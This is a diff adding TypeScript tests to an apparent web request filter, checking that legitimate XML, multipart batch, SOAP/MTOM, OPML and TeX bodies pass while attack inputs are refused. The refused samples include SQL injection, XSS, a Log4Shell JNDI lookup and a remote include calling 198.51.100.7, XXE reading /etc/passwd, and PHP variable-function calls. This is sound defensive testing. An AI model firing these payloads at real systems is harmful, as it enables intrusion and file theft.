@@ -322,6 +322,52 @@ describe('third probe round: placements', () => {
   });
 });
 
+describe('third probe round: legitimate formats', () => {
+  const typed = (type: string, body: string | Buffer, path = '/api') => req({ method: 'POST', rawPath: path, headers: { host: 'a', 'content-type': type }, body: typeof body === 'string' ? Buffer.from(body) : body });
+
+  test('a namespace URI under an element named Document is no file inclusion', () => {
+    const pain = '<?xml version="1.0" encoding="UTF-8"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><CstmrCdtTrfInitn><GrpHdr><MsgId>MSG-1</MsgId><InitgPty><Nm>O\'Brien &amp; Sons</Nm></InitgPty></GrpHdr></CstmrCdtTrfInitn></Document>';
+    passes(typed('application/xml', pain, '/ebics/v3/payments/pain.001'), 'ISO 20022 pain.001');
+    refused(typed('application/xml', '<Document><include>http://198.51.100.7/shell.txt?</include></Document>'), 'a remote include in an include element');
+  });
+
+  test('batch sub-requests (multipart/mixed of application/http) are read as requests', () => {
+    const batch = (inner: string) =>
+      typed('multipart/mixed; boundary=batch_x', `--batch_x\r\nContent-Type: application/http\r\nContent-ID: <item1:1@example.com>\r\n\r\n${inner}\r\n--batch_x--\r\n`, '/batch/drive/v3');
+    passes(batch('GET /drive/v3/files/1AbC?fields=id,name HTTP/1.1\r\nAuthorization: Bearer ya29.a0Af\r\n\r\n'), 'a GET sub-request');
+    passes(batch('PATCH /drive/v3/files/1AbC HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"name":"Q3 report (O\'Brien).pdf"}'), 'a PATCH with a JSON body');
+    refused(batch("GET /drive/v3/files?q=name%3D'x'%20or%201%3D1--%20 HTTP/1.1\r\n\r\n"), 'SQL injection in a sub-request query');
+    refused(batch('POST /v1/notes HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"text":"<img src=x onerror=alert(1)>"}'), 'XSS in a sub-request body');
+    refused(batch('GET /x HTTP/1.1\r\nUser-Agent: ${jndi:ldap://198.51.100.7/a}\r\n\r\n'), 'Log4Shell in a sub-request header');
+  });
+
+  test('multipart/related: the XML root part as XML, a binary attachment as a file', () => {
+    const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\n', 'latin1'), Buffer.from([0, 1, 2, 0xff, 0, 0x10]), Buffer.from('\nendstream\n%%EOF')]);
+    const mtom = (root: string) =>
+      typed(
+        'multipart/related; type="application/xop+xml"; boundary="uuid:1"; start="<root.message@cxf.apache.org>"; start-info="text/xml"',
+        Buffer.concat([
+          Buffer.from(`--uuid:1\r\nContent-Type: application/xop+xml; charset=UTF-8; type="text/xml"\r\nContent-ID: <root.message@cxf.apache.org>\r\n\r\n${root}\r\n--uuid:1\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; name="LS-2024-3391.pdf"\r\nContent-ID: <doc1@example.com>\r\n\r\n`),
+          pdf,
+          Buffer.from('\r\n--uuid:1--\r\n'),
+        ]),
+        '/ws/DocumentService',
+      );
+    passes(mtom('<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><UploadDeliveryNote><Ref>LS-2024-3391</Ref></UploadDeliveryNote></soap:Body></soap:Envelope>'), 'SOAP with an MTOM PDF');
+    refused(mtom('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><a>&x;</a></soap:Body></soap:Envelope>'), 'XXE in the root part');
+  });
+
+  test('a text body that is XML (OPML as text/x-opml) is read as XML', () => {
+    passes(typed('text/x-opml', '<?xml version="1.0"?><opml version="2.0"><body><outline type="rss" text="Null &amp; Void" xmlUrl="https://example.fm/feed.xml" htmlUrl="https://example.fm"/></body></opml>'), 'OPML');
+    refused(typed('text/plain', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'), 'XXE in a text/plain body');
+  });
+
+  test('TeX math is not a PHP variable function', () => {
+    for (const v of ["Bayes' theorem: $P(A \\mid B) = ?$", '$f(x)=x^2$', '$P(A \\mid B) = \\dfrac{P(B \\mid A)\\,P(A)}{P(B)}$']) passes(json({ front: v }, '/api/cards'), v);
+    for (const v of ['$a($b);', '$x("id")=$y', '$f(x)=x^2;$g($_GET[1])']) refused(q(v), v);
+  });
+});
+
 describe('marker check: GraphQL reading keeps to strings', () => {
   test('detectors see the strings of a document, never its structure', () => {
     const seen: string[] = [];
